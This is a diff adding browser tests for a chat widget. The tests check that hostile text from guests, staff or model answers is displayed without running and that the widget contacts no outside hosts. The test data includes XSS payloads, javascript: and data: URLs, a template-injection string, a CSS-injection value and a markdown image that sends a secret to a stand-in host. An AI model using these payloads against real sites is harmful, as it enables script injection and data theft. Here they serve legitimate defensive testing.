@@ -1,0 +1,145 @@
+"""What guests, models, documents and staff write is text, and stays text."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Dialog, Page, Request, expect
+
+from tests.browser.guest import all_sent, said, say, shows
+from tests.browser.guest_api_double import Answer, GuestApiDouble
+
+pytestmark = pytest.mark.browser
+
+SHARED = Path(__file__).resolve().parents[3] / "shared" / "hostile"
+Site = Callable[..., str]
+
+OURS = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "</textarea><svg onload=alert(1)>",
+    "javascript:alert(1)",
+    "[click](javascript:alert(1)) ![x](https://collect.example/?d=SECRET)",
+    "<a href='https://collect.example'>x</a>",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
+    "\u202egnp.exe\u202c \u0000 \ud83d\ude00",
+]
+BAD_ADDRESSES = [
+    "javascript:alert(1)",
+    " java\nscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
+    "blob:https://a/b",
+    "http://",
+]
+
+
+def hostile_texts() -> list[str]:
+    """Ours, and where they are on the machine the shared ones."""
+    files = ("xss", "markdown_exfil", "model_outputs")
+    paths = [path for name in files if (path := SHARED / f"{name}.jsonl").exists()]
+    lines = [line for path in paths for line in path.read_text("utf-8").splitlines()]
+    return OURS + [json.loads(line)["text"] for line in lines]
+
+
+def said_by(author: str, number: int, text: str) -> dict[str, Any]:
+    cite = {"title": text, "url": text, "page": text, "quote": text}
+    more = {"author_name": text, "citations": [cite], "quick_replies": [text, text]}
+    about = {"message_id": number, "seq": number, "outcome": text, "at": text}
+    return {**about, **more, "author": author, "text": text}
+
+
+@pytest.fixture
+def watched(house: GuestApiDouble, chat: Page) -> tuple[Page, list[str]]:
+    """The chat, one answer in, and a list of everything that got out of hand."""
+    broke: list[str] = []
+
+    def requested(request: Request) -> None:
+        if not request.url.startswith((house.url, chat.url)):
+            broke.append("request: " + request.url)
+
+    def asked(dialog: Dialog) -> None:
+        broke.append("dialog: " + dialog.message)
+        dialog.dismiss()
+
+    chat.on("request", requested)
+    chat.on("dialog", asked)
+    say(chat, "Hello")
+    shows(chat, "You said: Hello")
+    return chat, broke
+
+
+def test_hostile_words_of_anyone_are_shown_and_never_run(
+    house: GuestApiDouble, watched: tuple[Page, list[str]]
+) -> None:
+    page, broke = watched
+    texts = hostile_texts()
+
+    for number, text in enumerate(texts):
+        author = ("concierge", "staff", "system")[number % 3]
+        house.announces("message.posted", said_by(author, 100 + number, text))
+    house.announces("message.posted", said_by("staff", 99_999, "the last word"))
+
+    expect(page.locator(".message .bubble", has_text="the last word")).to_be_attached(
+        timeout=60_000
+    )
+    shown = page.locator(".message, .note")
+    assert shown.count() >= len(texts)
+    inside = page.locator(".bubble *, blockquote *, summary bdi *, .chip *").evaluate_all(
+        "nodes => [...new Set(nodes.map(node => node.localName))]"
+    )
+    assert set(inside) <= {"a"}
+    protocols = page.locator("concierge-widget a").evaluate_all(
+        "nodes => [...new Set(nodes.map(node => node.protocol))]"
+    )
+    assert set(protocols) <= {"http:", "https:", "mailto:", "tel:"}
+    assert broke == []
+
+
+def test_hostile_words_of_a_guest_come_back_as_they_were_written(
+    house: GuestApiDouble, watched: tuple[Page, list[str]]
+) -> None:
+    page, broke = watched
+
+    for text in OURS[:6]:
+        say(page, text)
+
+    all_sent(page, 7)
+    assert said(page)[1:] == OURS[:6]
+    assert broke == []
+
+
+def test_a_source_with_a_bad_address_is_no_link(house: GuestApiDouble, chat: Page) -> None:
+    cited = [{"title": f"T{n}", "url": url} for n, url in enumerate(BAD_ADDRESSES[:5])]
+    house.answer = lambda _: Answer(["See there."], citations=cited)
+
+    say(chat, "Where?")
+    shows(chat, "See there.")
+
+    expect(chat.locator(".cited")).to_have_count(5)
+    expect(chat.locator(".sources a")).to_have_count(0)
+
+
+def test_a_colour_that_is_no_colour_changes_nothing(
+    house: GuestApiDouble, site: Site, page: Page
+) -> None:
+    house.config["colour"] = "red}:host{display:none"
+    house.config["texts"] = {"send": 7, "constructor": "x", "person": "Ask <b>us</b>"}
+
+    page.goto(site(house.url, data="data-open"))
+
+    expect(page.locator(".launcher")).to_be_visible()
+    expect(page.locator(".person")).to_have_text("Ask <b>us</b>")
+
+
+def test_the_widget_asks_nobody_but_its_house_and_leaves_no_cookie(
+    watched: tuple[Page, list[str]],
+) -> None:
+    page, broke = watched
+
+    assert broke == []
+    assert page.context.cookies() == []
